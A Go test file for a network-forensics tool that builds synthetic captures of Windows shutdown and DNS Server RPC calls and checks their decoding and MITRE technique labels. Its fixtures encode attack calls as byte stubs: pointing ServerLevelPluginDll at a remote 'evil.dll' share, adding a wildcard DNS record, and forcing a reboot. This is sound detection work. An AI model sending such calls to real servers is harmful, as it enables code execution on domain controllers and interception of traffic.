package replay

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/nwhealth/nwhealth/internal/testenv"
	"github.com/nwhealth/nwhealth/pkg/smbrpc"
)

// MS-RSP (InitShutdown) and MS-DNSP (DnsServer) calls built from the
// specifications, written to a capture, and read by both tshark and
// replay: the operation tshark names and every argument it decodes must
// be what replay reports.

// ndrWStr is a conformant varying UTF-16 string with its NUL, padded to 4.
func ndrWStr(s string) []byte {
	u := append(utf16.Encode([]rune(s)), 0)
	b := join(le32(uint32(len(u))), le32(0), le32(uint32(len(u))))
	for _, c := range u {
		b = append(b, le16(c)...)
	}
	return pad4(b)
}

// ndrAStr is a conformant varying 8-bit string with its NUL, padded to 4.
func ndrAStr(s string) []byte {
	n := uint32(len(s) + 1)
	return pad4(join(le32(n), le32(0), le32(n), []byte(s), []byte{0}))
}

func pad4(b []byte) []byte {
	for len(b)%4 != 0 {
		b = append(b, 0)
	}
	return b
}

// ndrUStrPtr is a unique pointer to an RPC_UNICODE_STRING (no NUL) and its
// buffer.
func ndrUStrPtr(ref uint32, s string) []byte {
	u := utf16.Encode([]rune(s))
	b := join(le32(ref), le16(uint16(2*len(u))), le16(uint16(2*len(u))), le32(ref+4),
		le32(uint32(len(u))), le32(0), le32(uint32(len(u))))
	for _, c := range u {
		b = append(b, le16(c)...)
	}
	return pad4(b)
}

type oracleCall struct {
	opnum uint16
	stub  []byte
}

// rpcFlowPcap writes one TCP connection binding iface and making calls,
// each answered with a zero status.
func rpcFlowPcap(t *testing.T, file, port string, start time.Time, iface smbrpc.UUID, ver uint16, calls []oracleCall) {
	t.Helper()
	f := newFlow("10.0.0.5:"+port, "10.0.0.10:49667", start)
	f.send(true, rpcBind(1, iface, ver), 1460)
	f.send(false, rpcBindAckSyntax(1, smbrpc.SyntaxNDR), 1460)
	for i, c := range calls {
		f.send(true, rpcRequest(uint32(2+i), 3, c.opnum, c.stub), 1460)
		f.send(false, rpcResponse(uint32(2+i), le32(0)), 1460)
	}
	writePcap(t, file, f.pkts)
}

func TestShutdownDNSServerTshark(t *testing.T) {
	testenv.Tool(t, "tshark")
	dir := t.TempDir()
	if d := os.Getenv("KEEP"); d != "" {
		dir = d
	}
	server := join(le32(0x20000), le16('\\'), le16(0)) // PREGISTRY_SERVER_NAME
	shut := filepath.Join(dir, "initshutdown.pcap")
	rpcFlowPcap(t, shut, "50400", t0, smbrpc.MustUUID("894de0c0-0d55-11d3-a322-00c04fa321a1"), 1, []oracleCall{
		{0, join(server, ndrUStrPtr(0x20010, "maintenance window"), le32(45), []byte{1, 1, 0, 0})},
		{2, join(server, ndrUStrPtr(0x20010, "patch"), le32(0), []byte{0, 1, 0, 0}, le32(0x80020003))},
		{1, server},
	})
	dns := filepath.Join(dir, "dnsserver.pcap")
	client := join(le32(0x70000), le32(0))
	dnsLPWSTR := join(le32(3), le32(0x20020), ndrWStr(`\\10.0.0.66\share\evil.dll`))
	rec := join(le32(4), le16(4), le16(1), le32(0xf0), le32(1), le32(600), le32(0), le32(0), []byte{10, 0, 0, 66})
	rpcFlowPcap(t, dns, "50401", t0, smbrpc.MustUUID("50abc2a4-574d-40b3-9d66-ee4fd5fba076"), 5, []oracleCall{
		{6, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), le32(0x20008), ndrAStr("ServerLevelPluginDll"))},
		{8, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), le32(0x20008), ndrAStr("@"),
			le32(0), le16(255), le16(0), le32(0x1000000), le32(0), le32(0))},
		{5, join(client, le32(0x20000), ndrWStr("dc01"), le32(0), le32(0), le32(0x20008), ndrAStr("ServerLevelPluginDll"), le32(3), dnsLPWSTR)},
		{9, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), ndrAStr("*"), le32(0x20010), rec, le32(0))},
	})

	for _, c := range []struct {
		file   string
		fields []string // tshark fields whose values replay must report
		want   map[string]string
	}{
		{shut, []string{"initshutdown.initshutdown_Init.timeout", "initshutdown.initshutdown_InitEx.timeout",
			"initshutdown.initshutdown_Init.force_apps", "initshutdown.initshutdown_InitEx.force_apps",
			"initshutdown.initshutdown_Init.do_reboot", "initshutdown.initshutdown_InitEx.do_reboot",
			"initshutdown.initshutdown_InitEx.reason", "lsarpc.lsa_StringLarge.string"},
			map[string]string{"BaseInitiateSystemShutdown": "T1529", "BaseInitiateSystemShutdownEx": "T1529", "BaseAbortSystemShutdown": ""}},
		{dns, []string{"dnsserver.DnssrvQuery2.server_name", "dnsserver.DnssrvQuery2.zone", "dnsserver.DnssrvQuery2.operation",
			"dnsserver.DnssrvEnumRecords2.server_name", "dnsserver.DnssrvEnumRecords2.zone",
			"dnsserver.DnssrvEnumRecords2.node_name", "dnsserver.DnssrvEnumRecords2.record_type"},
			map[string]string{"R_DnssrvQuery2": "", "R_DnssrvEnumRecords2": "T1018", "R_DnssrvOperation2": "T1543.003", "R_DnssrvUpdateRecord2": "T1557"}},
	} {
		t.Run(filepath.Base(c.file), func(t *testing.T) {
			ops, _ := replayFile(t, c.file)
			byName := map[string]Operation{}
			for _, o := range ops {
				byName[o.Operation] = o
			}
			for op, tech := range c.want {
				o, ok := byName[op]
				if !ok {
					t.Errorf("replay reports no %s (%d operations)", op, len(ops))
					continue
				}
				if o.Technique != tech {
					t.Errorf("%s technique %q, want %q", op, o.Technique, tech)
				}
			}
			rows := tsharkFields(t, c.file, "dcerpc.pkt_type == 0", append([]string{"dcerpc.opnum", "_ws.col.Info"}, c.fields...)...)
			if len(rows) != len(c.want) {
				t.Fatalf("tshark sees %d requests, want %d", len(rows), len(c.want))
			}
			compared := 0
			for i, r := range rows {
				// tshark's Info names the operation: "Init request", "DnssrvQuery2 request"...
				info := get(r, 1)
				var o *Operation
				for j := range ops {
					if normShutdown(ops[j].Operation) != "" && strings.Contains(strings.ToLower(info), normShutdown(ops[j].Operation)) &&
						itoa(ops[j].Opnum) == get(r, 0) {
						o = &ops[j]
					}
				}
				if o == nil {
					t.Errorf("request %d: tshark %q, replay has no operation of that name and opnum", i, info)
					continue
				}
				ours := o.Target + "\x00" + o.Command
				for _, f := range o.Fields {
					ours += "\x00" + f.Value
				}
				for k := range c.fields {
					for _, v := range strings.Split(get(r, 2+k), ",") {
						if v == "" {
							continue
						}
						compared++
						if !oracleValueIn(v, ours) {
							t.Errorf("%s: tshark %s = %q, replay reports %q", o.Operation, c.fields[k], v, strings.ReplaceAll(ours, "\x00", " | "))
						}
					}
				}
			}
			if compared == 0 {
				t.Error("tshark decoded no argument")
			}
			t.Logf("%d values compared with tshark", compared)
		})
	}
}

// TestNewTechniquesProgression: the techniques of the new decoders reach
// the server's progression, each in its phase, impact last.
func TestNewTechniquesProgression(t *testing.T) {
	dir := t.TempDir()
	server := join(le32(0x20000), le16('\\'), le16(0))
	shut := filepath.Join(dir, "initshutdown.pcap")
	rpcFlowPcap(t, shut, "50410", t0.Add(time.Minute), smbrpc.MustUUID("894de0c0-0d55-11d3-a322-00c04fa321a1"), 1, []oracleCall{
		{2, join(server, ndrUStrPtr(0x20010, "patch"), le32(0), []byte{0, 1, 0, 0}, le32(0x80020003))},
	})
	dns := filepath.Join(dir, "dnsserver.pcap")
	client := join(le32(0x70000), le32(0))
	rec := join(le32(4), le16(4), le16(1), le32(0xf0), le32(1), le32(600), le32(0), le32(0), []byte{10, 0, 0, 66})
	rpcFlowPcap(t, dns, "50411", t0, smbrpc.MustUUID("50abc2a4-574d-40b3-9d66-ee4fd5fba076"), 5, []oracleCall{
		{5, join(client, le32(0x20000), ndrWStr("dc01"), le32(0), le32(0), le32(0x20008), ndrAStr("ServerLevelPluginDll"),
			le32(3), le32(3), le32(0x20020), ndrWStr(`\\10.0.0.66\share\evil.dll`))},
		{9, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), ndrAStr("*"), le32(0x20010), rec, le32(0))},
	})
	st := NewStories()
	for _, f := range []string{dns, shut} {
		ops, _ := replayFile(t, f)
		for i := range ops {
			st.Add(&ops[i])
		}
	}
	hosts := st.Hosts()
	if len(hosts) != 1 {
		t.Fatalf("%d host stories, want 1", len(hosts))
	}
	var got []string
	for _, s := range hosts[0].Steps {
		got = append(got, s.Phase+" "+strings.Join(s.Techniques, ","))
	}
	want := []string{"execution T1543.003", "credential-access T1557", "impact T1529"} // in time order
	if strings.Join(got, "; ") != strings.Join(want, "; ") {
		t.Errorf("progression %q, want %q", got, want)
	}
}

// normShutdown is the part of our operation name tshark's Info column
// shows: MS-RSP's Base...SystemShutdown are tshark's Init, InitEx and
// Abort; MS-DNSP's R_Dnssrv... drop the R_.
func normShutdown(op string) string {
	switch op {
	case "BaseInitiateSystemShutdown":
		return "init request"
	case "BaseInitiateSystemShutdownEx":
		return "initex request"
	case "BaseAbortSystemShutdown":
		return "abort request"
	}
	return strings.ToLower(strings.TrimPrefix(op, "R_")) + " request"
}

// oracleValueIn compares one tshark value with ours: booleans tshark shows
// as 0/1, numbers in decimal or hex, strings as they are.
func oracleValueIn(v, ours string) bool {
	if strings.Contains(ours, v) {
		return true
	}
	switch v {
	case "0":
		return strings.Contains(ours, "false") || strings.Contains(ours, "0s")
	case "1":
		return strings.Contains(ours, "true")
	}
	if n, err := strconv.ParseUint(v, 10, 32); err == nil && strings.Contains(ours, fmt.Sprintf("0x%08x", n)) {
		return true
	}
	if strings.HasPrefix(v, "0x") {
		return strings.Contains(ours, "0x"+strings.TrimLeft(v[2:], "0")) || strings.Contains(ours, v)
	}
	return false
}
